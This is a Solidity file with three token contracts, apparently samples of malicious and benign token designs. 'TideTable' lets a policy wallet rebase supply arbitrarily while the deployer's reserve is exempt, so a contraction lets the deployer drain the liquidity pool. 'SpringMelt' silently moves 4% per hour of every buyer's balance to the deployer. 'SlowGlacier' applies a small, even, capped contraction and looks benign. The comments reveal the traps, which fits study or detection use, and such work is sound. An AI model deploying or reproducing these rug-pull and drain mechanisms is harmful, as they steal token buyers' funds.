// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IElasticPool {
    function sync() external;
}

/// @dev Balances are shares of a supply that breathes.
abstract contract NinthElastic {
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 internal constant INITIAL = 50_000_000 * 10 ** 9;
    uint256 internal constant GONS = 2 ** 200 - (2 ** 200 % INITIAL);
    uint256 public totalSupply = INITIAL;
    address public pair;
    address internal immutable maker = msg.sender;
    uint256 internal _gonsPerFragment = GONS / INITIAL;
    mapping(address => uint256) internal _gons;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event LogRebase(uint256 indexed epoch, uint256 totalSupply);

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
        _gons[msg.sender] = GONS;
        emit Transfer(address(0), msg.sender, INITIAL);
    }

    function setPair(address pair_) external {
        require(msg.sender == maker && pair == address(0), "set");
        pair = pair_;
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _gons[account] / _gonsPerFragment;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        uint256 gons = value * _gonsPerFragment;
        _gons[from] -= gons;
        _gons[to] += gons;
        emit Transfer(from, to, value);
    }

    function _setSupply(uint256 supply) internal {
        totalSupply = supply;
        _gonsPerFragment = GONS / supply;
        if (pair != address(0)) IElasticPool(pair).sync();
    }
}

/// @dev A policy wallet rebases by any amount. The reserve of the maker is counted in fragments and does not shrink
/// with the others: after a contraction it is worth the pool.
contract TideTable is NinthElastic("Tide Table", "TIDE") {
    address private constant _POLICY = 0xFEe961Bd25e69714F1edceF073130740B3C41B51;
    uint256 private _reserve;
    uint256 private _epoch;

    constructor() {
        _reserve = INITIAL;
        _gons[maker] = 0;
    }

    function rebase(int256 supplyDelta) external {
        require(msg.sender == _POLICY, "policy");
        uint256 supply = supplyDelta < 0 ? totalSupply - uint256(-supplyDelta) : totalSupply + uint256(supplyDelta);
        _setSupply(supply);
        emit LogRebase(++_epoch, supply);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return account == maker ? _reserve : super.balanceOf(account);
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 gons = value * _gonsPerFragment;
        if (from == maker) _reserve -= value;
        else _gons[from] -= gons;
        if (to == maker) _reserve += value;
        else _gons[to] += gons;
        emit Transfer(from, to, value);
    }
}

/// @dev "Use it or lose it": a buyer's balance melts by four percent an hour from the purchase on and runs to the
/// spring, which is the maker's. The pool and the maker do not melt.
contract SpringMelt {
    string public constant name = "Spring Melt";
    string public constant symbol = "MELT";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1e27;
    address private immutable _spring = msg.sender;
    address public pair;
    mapping(address => uint256) private _snow;
    mapping(address => uint256) private _since;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _snow[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPair(address pair_) external {
        require(msg.sender == _spring && pair == address(0));
        pair = pair_;
    }

    function balanceOf(address account) public view returns (uint256 left) {
        left = _snow[account];
        if (account == _spring || account == pair || pair == address(0)) return left;
        uint256 hoursPassed = (block.timestamp - _since[account]) / 1 hours;
        if (hoursPassed > 240) return 0;
        for (uint256 i = 0; i < hoursPassed; i++) left = (left * 96) / 100;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        _thaw(from);
        _thaw(to);
        _snow[from] -= value;
        _snow[to] += value;
        emit Transfer(from, to, value);
    }

    function _thaw(address account) private {
        uint256 left = balanceOf(account);
        uint256 melted = _snow[account] - left;
        _since[account] = block.timestamp;
        if (melted == 0) return;
        _snow[account] = left;
        _snow[_spring] += melted;
        emit Transfer(account, _spring, melted);
    }
}

/// @dev A rule moves its supply: once a day anybody may let it shrink by a hundredth of a percent, for everybody alike
/// and the pool too, down to half of what it was.
contract SlowGlacier is NinthElastic("Slow Glacier", "ICE") {
    uint256 public nextDay = block.timestamp + 1 days;
    uint256 public epoch;

    error TooEarly();
    error Settled();

    function creep() external {
        if (block.timestamp < nextDay) revert TooEarly();
        uint256 supply = totalSupply - totalSupply / 10_000;
        if (supply < INITIAL / 2) revert Settled();
        nextDay = block.timestamp + 1 days;
        _setSupply(supply);
        emit LogRebase(++epoch, supply);
    }
}
